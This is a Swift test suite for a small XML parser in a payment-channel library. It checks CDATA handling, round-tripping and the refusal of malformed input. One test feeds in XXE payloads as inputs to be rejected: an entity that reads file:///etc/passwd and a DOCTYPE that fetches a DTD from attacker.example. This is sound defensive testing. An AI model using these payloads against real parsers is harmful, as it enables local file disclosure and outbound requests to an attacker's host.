import PaymentChannels
import Testing

@Suite("SimpleXML")
struct SimpleXMLTests {
    func parse(_ text: String) throws -> (root: String, fields: [(key: String, value: String)]) {
        try SimpleXML.parse(Array(text.utf8))
    }

    func expectRefused(_ text: String, sourceLocation: SourceLocation = #_sourceLocation) {
        let error = #expect(throws: ChannelError.self, sourceLocation: sourceLocation) { try parse(text) }
        #expect(error?.code == .malformedBody, sourceLocation: sourceLocation)
    }

    @Test("flat fields as text and CDATA, in order, with the declaration, whitespace and empty values")
    func flat() throws {
        let document = try parse(
            """
            <?xml version="1.0" encoding="UTF-8"?>
            <xml>
              <appid><![CDATA[wx2421b1c4370ec43b]]></appid>
              <total_fee>1</total_fee>
              <attach></attach>
              <coupon/>
              <body><![CDATA[a]]>&amp;<![CDATA[<b> ]]]]><![CDATA[>]]></body>
              <note>&lt;&gt;&quot;&apos;&#20013;&#x6587;</note>
            </xml>
            """)
        #expect(document.root == "xml")
        #expect(document.fields.map(\.key) == ["appid", "total_fee", "attach", "coupon", "body", "note"])
        #expect(document.fields.map(\.value) == ["wx2421b1c4370ec43b", "1", "", "", "a&<b> ]]>", "<>\"'中文"])
    }

    @Test("render then parse gives the fields back, ]]> included")
    func roundTrip() throws {
        let fields: [(key: String, value: String)] = [
            (key: "a", value: "x]]>y"), (key: "b", value: "中文 & <tags>"), (key: "c", value: ""),
            // A combining mark after "]]>" makes ">" part of one Character (found by libFuzzer); "]]]>" and "]]>]]>".
            (key: "d", value: "x]]>\u{0592}y"), (key: "e", value: "]]]>"), (key: "f", value: "]]>]]>"),
        ]
        let text = SimpleXML.render(fields)
        #expect(text.hasPrefix("<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a>"))
        let document = try parse(text)
        #expect(document.root == "xml")
        #expect(document.fields.map(\.key) == ["a", "b", "c", "d", "e", "f"])
        #expect(document.fields.map(\.value) == ["x]]>y", "中文 & <tags>", "", "x]]>\u{0592}y", "]]]>", "]]>]]>"])
        #expect(text.contains("<d><![CDATA[x]]]]><![CDATA[>\u{0592}y]]></d>"))
        #expect(try parse(SimpleXML.render(root: "root", fields)).root == "root")
    }

    @Test("DOCTYPE and ENTITY (XXE) are refused, wherever they appear")
    func xxe() {
        expectRefused(
            """
            <?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>
            """)
        expectRefused(#"<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><a>1</a></xml>"#)
        expectRefused(#"<xml><!ENTITY x "y"><a>1</a></xml>"#)
        expectRefused(#"<xml><a><!DOCTYPE x></a></xml>"#)
        expectRefused("<xml><a>&xxe;</a></xml>")
        expectRefused("<xml><a>&#0;</a></xml>")
    }

    @Test("processing instructions, comments, attributes, nesting, repeats and stray text are refused")
    func refusals() {
        expectRefused(#"<?xml-stylesheet href="x"?><xml><a>1</a></xml>"#)
        expectRefused(#"<xml><?php echo 1; ?><a>1</a></xml>"#)
        expectRefused("<xml><!-- c --><a>1</a></xml>")
        expectRefused(#"<xml><a id="1">1</a></xml>"#)
        expectRefused("<xml><a><b>1</b></a></xml>")
        expectRefused("<xml><a>1</a><a>2</a></xml>")
        expectRefused("<xml>text<a>1</a></xml>")
        expectRefused("<xml><a>1</b></xml>")
        expectRefused("<xml><a>1</a>")
        expectRefused("<xml><a>1</a></xml><xml/>")
        expectRefused("<xml><a>a & b</a></xml>")
        expectRefused("<xml><a><![CDATA[open</a></xml>")
        expectRefused("")
    }

    @Test("bytes that are not UTF-8 are refused")
    func notUTF8() {
        let error = #expect(throws: ChannelError.self) {
            try SimpleXML.parse(Array("<xml><a>".utf8) + [0xFF, 0xFE] + Array("</a></xml>".utf8))
        }
        #expect(error?.code == .malformedBody)
    }
}
